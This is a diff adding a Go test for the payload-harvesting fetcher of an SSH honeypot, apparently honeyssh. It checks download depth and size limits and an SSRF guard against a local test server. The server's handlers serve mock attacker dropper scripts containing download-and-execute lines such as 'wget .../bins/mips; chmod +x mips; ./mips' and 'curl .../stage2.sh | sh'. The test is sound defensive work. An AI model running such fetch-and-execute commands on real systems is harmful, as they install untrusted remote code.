@@ -0,0 +1,111 @@
+package commands
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/josephlewis42/honeyssh/core/config"
+	"github.com/josephlewis42/honeyssh/core/logger"
+	"github.com/josephlewis42/honeyssh/core/payload"
+	"github.com/josephlewis42/honeyssh/core/vos"
+	"github.com/josephlewis42/honeyssh/core/vos/vostest"
+	"github.com/josephlewis42/honeyssh/third_party/memmapfs"
+	"github.com/spf13/afero"
+	"github.com/stretchr/testify/assert"
+)
+
+type downloadRecorder struct {
+	vostest.NopEventRecorder
+
+	mu        sync.Mutex
+	downloads []*logger.Download
+}
+
+func (r *downloadRecorder) Record(event logger.LogType) error {
+	if download, ok := event.(*logger.LogEntry_Download); ok {
+		r.mu.Lock()
+		defer r.mu.Unlock()
+		r.downloads = append(r.downloads, download.Download)
+	}
+	return nil
+}
+
+func TestNewHarvestFetcher(t *testing.T) {
+	mux := http.NewServeMux()
+	server := httptest.NewServer(mux)
+	defer server.Close()
+
+	mux.HandleFunc("/install.sh", func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprintf(w, "#!/bin/sh\ncd /tmp\nwget %[1]s/bins/mips; chmod +x mips; ./mips\nwget %[1]s/big\nwget %[1]s/missing\ncurl %[1]s/stage2.sh | sh\n", server.URL)
+	})
+	mux.HandleFunc("/stage2.sh", func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprintf(w, "#!/bin/sh\nwget %s/stage3; chmod +x stage3\n", server.URL)
+	})
+	mux.HandleFunc("/bins/mips", func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprint(w, "\x7fELF mips")
+	})
+	mux.HandleFunc("/big", func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprint(w, strings.Repeat("x", 1024))
+	})
+	mux.HandleFunc("/stage3", func(w http.ResponseWriter, r *http.Request) {
+		t.Error("fetched past the max depth")
+	})
+
+	cfg := &config.Configuration{
+		Harvest: config.Harvest{
+			Enabled:               true,
+			MaxDepth:              1,
+			MaxSize:               512,
+			MaxURLs:               10,
+			AllowPrivateAddresses: true,
+		},
+	}
+	timeSource := func() time.Time {
+		return time.Date(2006, 1, 2, 3, 4, 5, 0, time.UTC)
+	}
+	store := payload.NewStore(afero.NewMemMapFs())
+	sharedOS := vos.NewSharedOS(memmapfs.NewMemMapFs(timeSource), BuiltinProcessResolver, cfg, timeSource)
+	sharedOS.SetPayloads(store)
+	sharedOS.SetFetcher(NewHarvestFetcher(cfg.Harvest))
+
+	recorder := &downloadRecorder{}
+	virtOS := vos.NewTenantOS(sharedOS, recorder, &vostest.FakeSSHSession{}).LoginProc()
+
+	// Simulate the attacker downloading the first stage.
+	fetcher := NewHarvestFetcher(cfg.Harvest)
+	body, err := fetcher(context.Background(), server.URL+"/install.sh")
+	assert.NoError(t, err)
+	defer body.Close()
+	fd, err := virtOS.DownloadPath(server.URL + "/install.sh")
+	assert.NoError(t, err)
+	_, err = io.Copy(fd, body)
+	assert.NoError(t, err)
+	assert.NoError(t, fd.Close())
+	sharedOS.WaitForHarvests()
+
+	sources := make(map[string]string)
+	for _, download := range recorder.downloads {
+		sources[strings.TrimPrefix(download.Source, server.URL)] = download.ParentSha256
+	}
+	parent := recorder.downloads[0].Sha256
+	assert.Equal(t, map[string]string{
+		"/install.sh": "",
+		"/bins/mips":  parent,
+		"/stage2.sh":  parent,
+	}, sources)
+
+	entries, err := store.List()
+	assert.NoError(t, err)
+	assert.Len(t, entries, 3)
+
+	// The SSRF guard applies by default.
+	_, err = NewHarvestFetcher(config.Harvest{})(context.Background(), server.URL+"/install.sh")
+	assert.Error(t, err)
+}